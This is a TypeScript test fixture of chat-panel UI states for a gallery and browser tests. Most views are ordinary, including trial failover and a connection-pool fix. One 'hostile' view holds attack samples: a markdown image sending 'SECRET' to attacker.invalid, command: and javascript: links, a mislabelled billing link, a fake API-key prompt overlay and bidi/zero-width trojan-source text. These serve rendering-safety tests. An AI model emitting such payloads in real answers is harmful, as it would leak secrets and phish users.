/*
 * One view per state of the panel, to be drawn by the gallery and pressed by the browser tests.
 * Plain data; ends on the wall clock are relative to the moment of drawing.
 */
import type { AnswerView, ChatView, ComposerView, TargetView } from '../../src/protocol/index.ts';
import { contextViews } from './contextViews.ts';
import { troubleViews } from './troubleViews.ts';
import { answer, composer, FOOTER, illStrip, target, text, turn, view } from './views.ts';

const CODE = `async use<T>(job: Job<T>): Promise<T> {
  const conn = await this.acquire()
  try {
    return await conn.query(job)
  } finally {
    this.release(conn)
  }
}`;

const POOL = `The pool is never drained. \`release()\` runs only when the query succeeds, so \`first\` stays out, \`next\` waits for it, and \`drain()\` waits for both.

Give the connection back in every case:

\`\`\`ts src/pool.ts
${CODE}
\`\`\`

With that, the second test passes here in 40 ms.`;

const FAULTS = ['Outage', 'Rate limit', 'Slow', 'Stall', 'Cut', 'Garbage'];
const faults = (on: string): NonNullable<TargetView['faults']> =>
  FAULTS.map((label) => ({ fault: label.toLowerCase(), label, isOn: label === on }));

const demo = (name: string, label: string): ComposerView['suggestions'][number] => ({
  label,
  question: `What about ${label}?`,
  button: { label, action: 'demo', args: { demo: name } },
});
const SUGGESTIONS: ComposerView['suggestions'] = [
  demo('cut', 'Cut an answer'),
  demo('pause', 'Pause both'),
  { label: 'Privacy?', question: 'What leaves this computer, and who decides?' },
];

const LONG = 'https://example.com/' + 'a-very-long-path/'.repeat(8);

/** Wall-clock ends are relative to when the page draws. */
export function galleryViews(nowMs: number): Record<string, ChatView> {
  return {
    empty: view({
      strip: { isWell: true, targets: [], notices: [] },
      composer: composer({ who: 'No model yet', canSend: false }),
      empty: {
        title: 'Always an answer',
        text: 'You get an answer, you know where it came from, and nothing leaves this computer without your say.',
        buttons: [{ label: 'Add your key', action: 'add-key', primary: true }],
        links: [{ label: 'Try it without a key', action: 'try-without-key' }],
        footnote: "Keys stay in this computer's keychain. No account, no telemetry.",
      },
    }),
    found: view({
      strip: { isWell: true, targets: [], notices: [] },
      composer: composer({ who: 'No model yet', canSend: false }),
      empty: {
        title: 'Always an answer',
        text: 'You get an answer, you know where it came from, and nothing leaves this computer without your say.',
        found: 'Found on this computer: Ollama (3 models), LM Studio (1 model)',
        buttons: [{ label: 'Use Ollama, found here', action: 'use-found', primary: true }],
        links: [
          { label: 'Add another provider', action: 'add-provider' },
          { label: 'Try it without a key', action: 'try-without-key' },
        ],
        footnote: "Keys stay in this computer's keychain. No account, no telemetry.",
      },
    }),
    well: view({
      turns: [turn('Why does this test hang?', answer({ ...FOOTER, blocks: [text(POOL)] }))],
    }),
    versions: view({
      turns: [
        {
          ...turn('Why does this test hang?', answer({ ...FOOTER, blocks: [text(POOL)] })),
          version: { at: 2, of: 3 },
        },
      ],
      offers: [
        {
          sentence: 'pool.ts: the change is shown, nothing is written yet.',
          buttons: [
            { label: 'Accept', action: 'accept-change' },
            { label: 'Discard', action: 'discard-change' },
          ],
        },
      ],
    }),
    streaming: view({
      turns: [
        turn(
          'Why does this test hang?',
          answer({
            state: 'streaming',
            blocks: [
              { type: 'reasoning', text: 'The test acquires twice.' },
              text(`The pool is **never drai`),
            ],
          }),
        ),
      ],
      composer: composer({ busyTurnId: 't1' }),
    }),
    asking: view({
      turns: [turn('Why does this test hang?', answer({ state: 'asking' }))],
      composer: composer({ busyTurnId: 't1' }),
    }),
    ...contextViews(),
    ...troubleViews(nowMs),
    ...trialViews(nowMs),
    rich: view({ turns: [turn('Show me all you can write.', answer({ ...richAnswer() }))] }),
    narrow: view({
      strip: {
        ...illStrip,
        targets: [
          target('A provider with an unusually long name', 'answering', 'answering'),
          ...illStrip.targets.slice(0, 1),
          target('Ollama', 'needs-key', 'needs a key on this computer'),
        ],
      },
      turns: [
        turn(
          `What is at ${LONG}?`,
          answer({ ...FOOTER, blocks: [text(`See ${LONG} and:\n\n${POOL}`)] }),
        ),
      ],
    }),
    hostile: view({
      turns: [
        turn(
          'Su\u200Bdo\u202E txt.exe',
          answer({
            ...FOOTER,
            blocks: [
              text(
                '![logo](https://attacker.invalid/c?d=SECRET)\n\n[Fix it](command:workbench.action.quit), ' +
                  '[open](javascript:alert(1)), [https://openai.com/billing](https://attacker.invalid/)\n\n' +
                  '<div style="position:fixed;inset:0">Session expired. Paste your API key:</div>\n\n' +
                  'Trojan: /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */ and su\u200Bdo.',
              ),
            ],
          }),
        ),
      ],
    }),
  };
}

function trialViews(nowMs: number): Record<string, ChatView> {
  return {
    trialStart: view({
      strip: {
        isWell: true,
        trial: { sentence: 'Simulated. Nothing is sent.', endLabel: 'End trial' },
        targets: [
          target('Aster', 'working', 'working', { simulated: true, faults: faults('') }),
          target('Birch', 'ready', 'ready', { simulated: true, faults: faults('') }),
        ],
        notices: [],
      },
      empty: {
        title: 'Break it, and watch it hold',
        text: 'Two simulated providers answer here. Ask anything, or press a button below and see what happens.',
        buttons: [],
        links: [],
        footnote: '',
      },
      composer: composer({ who: 'Auto · Aster, Birch', suggestions: SUGGESTIONS }),
    }),
    trial: view({
      strip: {
        isWell: false,
        trial: { sentence: 'Simulated. Nothing is sent.', endLabel: 'End trial' },
        targets: [
          target('Aster', 'paused', 'paused, checking in {seconds} s', {
            simulated: true,
            untilWallMs: nowMs + 9_000,
            faults: faults('Stall'),
          }),
          target('Birch', 'answering', 'answering', { simulated: true, faults: faults('') }),
        ],
        notices: [],
      },
      turns: [
        turn(
          'What happens if my provider goes down?',
          answer({
            who: { name: 'Aster', simulated: true },
            state: 'unfinished',
            blocks: [
              text(
                'Nothing you need to do. Steadfast notices the silence, keeps the words you already',
              ),
            ],
          }),
          answer({
            answerId: 'a2',
            who: { name: 'Birch', simulated: true },
            seam: {
              kind: 'seam',
              sentence: 'Aster went silent for 4 s. Continued by Birch',
              why: [
                'Aster was asked first.',
                'Aster went silent for 4 s after 14 words.',
                'Birch was next and ready.',
              ],
            },
            blocks: [
              text(
                'have, and asks the next in your chain to go on from there. The line above marks the place; **why** opens the receipt.\n\nAster is checked again shortly. Switch **Stall** off and watch it come back.',
              ),
            ],
            ...FOOTER,
            footer: [
              { text: '4.9 s', hint: 'first word after 4.9 s' },
              { text: '210 tokens' },
              { text: 'free' },
            ],
          }),
        ),
      ],
      composer: composer({
        who: 'Auto · Aster, Birch',
        suggestions: SUGGESTIONS,
      }),
    }),
  };
}

function richAnswer(): Partial<AnswerView> {
  return {
    ...FOOTER,
    blocks: [
      { type: 'reasoning', text: 'First a table, then code.' },
      text(
        `# A heading\n\nText with *emphasis*, **weight**, ~~regret~~, \`code\` and a [link](https://example.com/a).\n\n## Table\n\n| model | first word | price |\n|---|---:|:-:|\n| Claude | 0.9 s | $3 |\n| GPT | 1.4 s | $2 |\n\n> Quoted, in two\n> lines.\n\n1. one\n2. two\n   - nested\n   - [x] done\n3. three\n\n\`\`\`python\ndef drain(pool: Pool) -> int:\n    """Give everything back."""\n    return sum(1 for c in pool if c.release())  # 42\n\`\`\`\n\n---\n\nEnd.`,
      ),
      {
        type: 'tool-call',
        name: 'read_file',
        argumentsText: '{\n  "path": "src/pool.ts"\n}',
        whole: true,
      },
    ],
  };
}
